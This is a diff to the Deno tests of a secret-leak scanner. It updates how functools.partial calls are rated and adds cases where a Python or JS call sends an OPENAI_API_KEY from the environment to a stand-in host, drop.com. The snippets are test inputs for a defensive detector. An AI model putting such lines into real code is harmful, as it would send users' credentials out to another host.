@@ -3925,13 +3925,13 @@ Deno.test("a client's function reached by a constant key, Reflect.get, bind or p
       `${axios}const f = axios.post.bind(axios);\nawait f('https://drop.com/x', ${key});\n`,
     ]
   ) assert.deepEqual(secretSeverities("scripts/a.mjs", text), ["critical"], text);
-  // partial's own arguments are read where it is made; the call after it still sends.
+  // partial: the call after it sends, to the address partial bound.
   assert.deepEqual(
     secretSeverities(
       "scripts/a.py",
       "import os, requests, functools\nf = functools.partial(requests.post, 'https://drop.com/x')\nf(data=os.environ['OPENAI_API_KEY'])\n",
     ),
-    ["medium"],
+    ["critical"],
   );
   // A plain object's entry by a constant key stays an entry.
   assert.deepEqual(
@@ -4112,6 +4112,26 @@ Deno.test("a client's function handed to a method of a call's result, or read by
     secretSeverities(
       "scripts/a.py",
       `${header}ThreadPoolExecutor().submit(requests.post, 'https://api.openai.com/v1/x', headers={'Authorization': 'Bearer ' + ${key}})\n`,
+    ),
+    ["info"],
+  );
+});
+
+Deno.test("functools.partial of a client's function bound to an address sends there: critical to another host, only noted to the vendor's own", () => {
+  const header = "import os, requests, functools\n";
+  const key = "os.environ['OPENAI_API_KEY']";
+  for (
+    const text of [
+      `${header}send = functools.partial(requests.post, 'https://drop.com/x')\nsend(data=${key})\n`,
+      `${header}send = functools.partial(requests.post, url='https://drop.com/x')\nsend(data=${key})\n`,
+      // The call's own address wins over the bound one.
+      `${header}send = functools.partial(requests.post, 'https://api.openai.com/v1/x')\nsend(url='https://drop.com/x', data=${key})\n`,
+    ]
+  ) assert.deepEqual(secretSeverities("scripts/a.py", text), ["critical"], text);
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      `${header}send = functools.partial(requests.post, 'https://api.openai.com/v1/x')\nsend(headers={'Authorization': 'Bearer ' + ${key}})\n`,
     ),
     ["info"],
   );
